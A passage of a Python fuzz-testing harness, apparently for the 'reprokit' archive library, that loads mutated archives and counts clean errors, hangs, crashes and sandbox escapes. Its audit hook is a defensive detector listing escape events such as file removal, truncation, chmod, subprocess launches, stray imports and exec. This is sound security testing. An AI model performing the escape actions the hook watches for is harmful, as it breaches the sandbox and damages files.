            "webbrowser.open",
        }
    )
    _PATH_EVENTS = frozenset(
        {"os.remove", "os.rename", "os.mkdir", "os.symlink", "os.link", "os.truncate", "os.chmod"}
    )
    _IMPORT_ROOTS = frozenset({"jax", "jaxlib", "penzai", "numpy", "ml_dtypes", "reprokit"})

    def __init__(self, allowed_folder: str):
        self.allowed = os.path.realpath(allowed_folder) + os.sep
        self.active = False
        self.seen: list[str] = []

    def hook(self, event: str, args: tuple) -> None:
        if not self.active:
            return
        if event == "import":
            root = str(args[0]).split(".")[0]
            if root not in self._IMPORT_ROOTS:
                self.seen.append(f"import {args[0]}")
        elif event in ("exec", "compile"):
            # Importing an allowed module runs its code (and dataclasses
            # compiles __init__ methods); anything else is eval/exec.
            if not self._inside_import():
                self.seen.append(f"{event} outside an import")
        elif event == "subprocess.Popen" and self._renders_replay_script(args):
            pass  # verify's isolated child: parsed data on stdin, a sha256 back
        elif event in self._ALWAYS:
            self.seen.append(event)
        elif event == "open" and len(args) >= 3 and isinstance(args[0], (str, bytes)):
            mode, flags = args[1] or "", args[2] or 0
            writes = any(c in str(mode) for c in "wax+") or flags & (
                os.O_WRONLY | os.O_RDWR | os.O_CREAT
            )
            if writes and not self._inside(args[0]):
                self.seen.append(f"open for writing {args[0]!r}")
        elif event in self._PATH_EVENTS and args and not self._inside(args[0]):
            self.seen.append(f"{event} {args[0]!r}")

    @staticmethod
    def _renders_replay_script(args: tuple) -> bool:
        """`reprokit verify` renders replay.py in one isolated `python -I` child (SECURITY.md)."""
        argv = args[1] if len(args) > 1 else None
        return (
            isinstance(argv, (list, tuple))
            and "-I" in argv
            and argv[-1:] == ["reprokit.views._script"]
        )

    @staticmethod
    def _inside_import() -> bool:
        frame = sys._getframe(2)
        while frame is not None:
            if frame.f_code.co_filename.startswith("<frozen importlib"):
                return True
            frame = frame.f_back
        return False

    def _inside(self, path: Any) -> bool:
        if isinstance(path, int):
            return True  # a file descriptor: opened (and checked) earlier
        return os.path.realpath(os.fsdecode(path)).startswith(self.allowed)

    @contextlib.contextmanager
    def watching(self) -> Iterator[list[str]]:
        self.seen = []
        self.active = True
        try:
            yield self.seen
        finally:
            self.active = False


class _Hang(Exception):
    pass


@contextlib.contextmanager
def _time_bound(seconds: float) -> Iterator[None]:
    def expire(signum, frame):
        raise _Hang()

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


# ---------------------------------------------------------------- the long run


def run(
    cases: int,
    seed: int,
    timeout: float,
    folder: str,
    *,
    replay: bool = True,
    report_every: int = 1000,
) -> dict:
    """Runs `cases` random mutations over the base archives; returns the outcome counts."""
    import reprokit

    bases = make_base_archives(folder)
    originals = {}
    for name, path in bases.items():
        originals[name] = fingerprint(reprokit.load(path).record)
        check_archive(path, originals[name], replay=replay)  # warm lazy imports first
    # treescope, which penzai's error messages use to show values, imports
    # numpy's public submodules (numpy.f2py, and with it fileinput) on its
    # first rendering: a lazy import of the harness, warmed up here.
    import numpy as np
    import treescope

    treescope.render_to_text(np.zeros(2))
    escapes = EscapeWatch(folder)
    sys.addaudithook(escapes.hook)
    rng = random.Random(seed)
    counts: collections.Counter[str] = collections.Counter()
    failures: list[str] = []
    case_path = os.path.join(folder, "case.repro.zip")
    started = time.monotonic()
    for index in range(cases):
        base = rng.choice(sorted(bases))
        kind = rng.choice(KINDS)
        case_seed = rng.getrandbits(64)
        data, raw = MUTATIONS[kind](random.Random(case_seed), *_base_inputs(bases[base]))
        with open(case_path, "wb") as file:
            file.write(data)
        outcome, detail = "hang", f"over {timeout:g} s"
        try:
            with restored_jax_config(), escapes.watching() as seen, _time_bound(timeout):
                outcome, detail = check_archive(
                    case_path, originals[base] if raw else None, replay=replay
                )
        except _Hang:
            pass
        if seen and outcome in ("error", "load"):
            outcome, detail = "escape", "; ".join(seen[:3])
        counts[outcome] += 1
        if outcome not in ("error", "load"):
            failures.append(f"{outcome}: base={base} kind={kind} seed={case_seed}: {detail}")
            if len(failures) <= 20:
                print(failures[-1], file=sys.stderr, flush=True)
        if report_every and (index + 1) % report_every == 0:
            print(f"  {index + 1} cases, {dict(counts)}", file=sys.stderr, flush=True)
    counts["seconds"] = round(time.monotonic() - started)
    return dict(counts)


_BASE_CACHE: dict[str, tuple[bytes, list[Member]]] = {}


def _base_inputs(path: str) -> tuple[bytes, list[Member]]:
    if path not in _BASE_CACHE:
        with open(path, "rb") as file:
            _BASE_CACHE[path] = (file.read(), read_members(path))
    data, members = _BASE_CACHE[path]
    return data, list(members)


def result_line(counts: dict, cases: int, seed: int) -> str:
    """The one line to quote (in the README's reliability section)."""
    return (
        f"reprokit fuzz: {cases} cases (seed {seed}): {counts.get('error', 0)} clean errors, "
        f"{counts.get('load', 0)} correct loads, {counts.get('traceback', 0)} tracebacks, "
        f"{counts.get('hang', 0)} hangs, {counts.get('escape', 0)} escapes, "
        f"{counts.get('corruption', 0)} silent corruptions, "
        f"{counts.get('inconsistent', 0)} verify/load disagreements "
        f"in {counts.get('seconds', 0)} s"
    )


def main(argv: list[str] | None = None) -> int:
    """`python tests/fuzzer.py`: the long fuzz run; exit 0 when nothing but clean outcomes."""
    parser = argparse.ArgumentParser(
        prog="python tests/fuzzer.py", description=__doc__.split("\n")[0]
    )
    parser.add_argument("--cases", type=int, default=10_000, help="how many mutated archives")
    parser.add_argument("--seed", type=int, default=0, help="random seed (a run is repeatable)")
    parser.add_argument("--timeout", type=float, default=20.0, help="seconds before a case hangs")
    parser.add_argument(
        "--no-replay", action="store_true", help="only load what loads (faster); default: replay it"
    )
    args = parser.parse_args(argv)
    os.environ.setdefault("JAX_PLATFORMS", "cpu")
    with tempfile.TemporaryDirectory(prefix="reprokit-fuzz-") as folder:
        counts = run(args.cases, args.seed, args.timeout, folder, replay=not args.no_replay)
    print(result_line(counts, args.cases, args.seed))
    bad = sum(
        counts.get(k, 0) for k in ("traceback", "hang", "escape", "corruption", "inconsistent")
    )
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
